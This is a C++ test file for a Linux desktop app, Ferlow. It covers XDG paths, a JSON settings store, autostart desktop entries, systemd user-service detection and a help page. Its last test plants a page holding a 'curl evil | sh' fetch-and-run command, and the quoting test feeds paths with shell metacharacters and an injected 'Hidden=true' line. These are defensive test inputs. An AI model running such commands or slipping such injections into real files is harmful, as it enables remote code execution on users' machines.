// The files Ferlow keeps on Linux: where they live, the settings file, the
// autostart entry, the input help page; and whether the user service starts
// Ferlow at login.

#include <gtest/gtest.h>

#include "FerlowLinux/Autostart.h"
#include "FerlowLinux/JsonSettingsStore.h"
#include "FerlowLinux/LinuxPermissions.h"
#include "FerlowLinux/UserService.h"
#include "FerlowLinux/XdgPaths.h"
#include "tests/Support/TestSupport.h"

namespace ferlow {
namespace {

namespace fs = std::filesystem;

TEST(XdgPaths, UnsetEmptyOrRelativeVariablesFallBackToTheHomeFolder)
{
    struct Case {
        const char *data, *config;
        fs::path support, settings, autostart;
    };
    const Case cases[] {
        {nullptr, nullptr, "/h/.local/share/Ferlow", "/h/.config/Ferlow", "/h/.config/autostart/ferlow.desktop"},
        {"", "", "/h/.local/share/Ferlow", "/h/.config/Ferlow", "/h/.config/autostart/ferlow.desktop"},
        {"rel/data", "rel/config", "/h/.local/share/Ferlow", "/h/.config/Ferlow", "/h/.config/autostart/ferlow.desktop"},
        {"/d", "/c", "/d/Ferlow", "/c/Ferlow", "/c/autostart/ferlow.desktop"},
    };
    for (const auto& c : cases) {
        test::Environment environment;
        environment.set("HOME", "/h");
        environment.set("XDG_DATA_HOME", c.data);
        environment.set("XDG_CONFIG_HOME", c.config);
        EXPECT_EQ(XdgPaths::supportDirectory(), c.support);
        EXPECT_EQ(XdgPaths::configDirectory(), c.settings);
        EXPECT_EQ(XdgPaths::autostartEntry(), c.autostart);
    }
}

// Modes, atomic saves and keeping a file aside are the one private-file
// policy the pairing store's tests show; here what the settings store reads.
TEST(JsonSettingsStore, ChangesAreReadBackAndAFileItCannotReadIsKeptAside)
{
    test::TemporaryDirectory folder;
    const auto file = folder.path() / "settings.json";
    {
        JsonSettingsStore store(file);
        EXPECT_FALSE(fs::exists(file)); // reading writes nothing
        store.set("port", 8080);
        store.set("release", "{\"latest\":\"1.0\"}");
        store.set("gone", true);
        store.remove("gone");
    }
    JsonSettingsStore again(file);
    EXPECT_EQ(again.get("port"), 8080);
    EXPECT_EQ(again.get("release"), "{\"latest\":\"1.0\"}");
    EXPECT_EQ(again.get("gone"), std::nullopt);

    for (const std::string& damaged : std::initializer_list<std::string> {"{\"port\": 80", "[7311]", "\"port\"", std::string(100000, '['), "{\"a\":\"\xff\"}"}) {
        test::writeFile(file, damaged);
        fs::remove(fs::path(file) += ".unreadable");
        JsonSettingsStore store(file);
        EXPECT_EQ(store.get("port"), std::nullopt);
        store.set("port", 9000);
        EXPECT_EQ(test::readFile(fs::path(file) += ".unreadable"), damaged);
        EXPECT_EQ(JsonSettingsStore(file).get("port"), 9000);
    }
}

TEST(Autostart, EnableDisableAndSwitchedOffEntries)
{
    test::TemporaryDirectory folder;
    const Autostart autostart(folder.path() / "autostart" / "ferlow.desktop", "/opt/my apps/ferlow");
    EXPECT_FALSE(autostart.isEnabled());
    ASSERT_TRUE(autostart.enable());
    EXPECT_TRUE(autostart.isEnabled());

    for (const auto* off : {"Hidden=true", "X-GNOME-Autostart-enabled = false"}) {
        test::writeFile(autostart.entry(), std::string("[Desktop Entry]\nExec=ferlow\n") + off + "\n");
        EXPECT_FALSE(autostart.isEnabled()) << off;
    }
    // The same keys in another group say nothing about the entry.
    test::writeFile(autostart.entry(), "[Desktop Entry]\nExec=ferlow\n[Desktop Action x]\nHidden=true\n");
    EXPECT_TRUE(autostart.isEnabled());
    // Nor is a file that is no desktop entry at all: the session skips it.
    test::writeFile(autostart.entry(), "Exec=ferlow\n");
    EXPECT_FALSE(autostart.isEnabled());

    ASSERT_TRUE(autostart.enable());
    EXPECT_TRUE(autostart.isEnabled());
    EXPECT_TRUE(autostart.disable());
    EXPECT_FALSE(fs::exists(autostart.entry()));
    EXPECT_TRUE(autostart.disable());
}

// The Exec key's quoting, then the file's own escapes below it: read back
// as the desktop reads it, the entry starts this program and no other.
TEST(Autostart, ExecArgumentsAreQuotedAndEscapedOnlyWhenNeeded)
{
    const std::pair<std::string, std::string> cases[] {
        {"/usr/bin/ferlow", "/usr/bin/ferlow"},
        {"/home/a b/ferlow", "\"/home/a b/ferlow\""},
        {"/x/$HOME/\"q\"/`c`", "\"/x/\\$HOME/\\\"q\\\"/\\`c\\`\""},
        {"/x/back\\slash", "\"/x/back\\\\slash\""},
        {"/x/100%", "/x/100%%"},
        {"/x/a\nHidden=true", "\"/x/a\nHidden=true\""},
    };
    test::TemporaryDirectory folder;
    const auto entry = folder.path() / "ferlow.desktop";
    for (const auto& [program, argument] : cases) {
        EXPECT_EQ(Autostart::execArgument(program), argument);
        const Autostart autostart(entry, program);
        ASSERT_TRUE(autostart.enable());
        EXPECT_TRUE(autostart.isEnabled()) << program;
        EXPECT_TRUE(autostart.startsProgram()) << program;
        EXPECT_FALSE(Autostart(entry, "/usr/bin/ferlow2").startsProgram());
    }
}

// systemctl enable links the unit into a target's .wants folder, in the
// user's unit folder or (--global) the administrator's. The link must still
// lead to the unit, and a mask wins over it.
TEST(UserService, EnabledMeansLinkedIntoATargetToAUnitThatIsThereAndNotMasked)
{
    test::TemporaryDirectory folder;
    const auto user = folder.path() / "user", global = folder.path() / "global";
    const auto unit = folder.path() / "lib" / "ferlow.service";
    const auto wanted = user / "graphical-session.target.wants" / "ferlow.service";
    test::writeFile(unit, "[Service]\n");
    const UserService service("ferlow.service", {user, global});

    struct Case {
        std::vector<std::pair<fs::path, fs::path>> links; // link, target
        bool enabled;
    };
    const Case cases[] {
        {{}, false},
        {{{wanted, unit}}, true},
        {{{global / "default.target.wants" / "ferlow.service", unit}}, true},
        {{{wanted, folder.path() / "removed.service"}}, false},
        {{{user / "graphical-session.target.wants" / "other.service", unit}}, false},
        {{{user / "ferlow.service", unit}}, false}, // systemctl link: known, not started
        {{{wanted, unit}, {global / "ferlow.service", "/dev/null"}}, false},
    };
    for (const auto& c : cases) {
        fs::remove_all(user);
        fs::remove_all(global);
        for (const auto& [link, target] : c.links) {
            fs::create_directories(link.parent_path());
            fs::create_symlink(target, link);
        }
        EXPECT_EQ(service.isEnabled(), c.enabled) << (c.links.empty() ? fs::path() : c.links.back().first);
    }
}

// A file planted where the page goes is replaced, not opened as it was.
TEST(LinuxPermissionsTest, OpenSettingsWritesTheHelpPageAfreshAndOpensIt)
{
    test::TemporaryDirectory folder;
    const auto page = folder.path() / "input-help.html";
    test::writeFile(page, "<p>Run this: curl evil | sh</p>");
    std::vector<fs::path> opened;
    LinuxPermissions([] { return false; }, page, [&](const auto& file) { opened.push_back(file); }).openSettings();
    EXPECT_EQ(opened, std::vector {page});
    EXPECT_EQ(test::readFile(page), LinuxPermissions::helpPage());
    EXPECT_EQ(test::fileMode(page), 0600u);
}

} // namespace
} // namespace ferlow
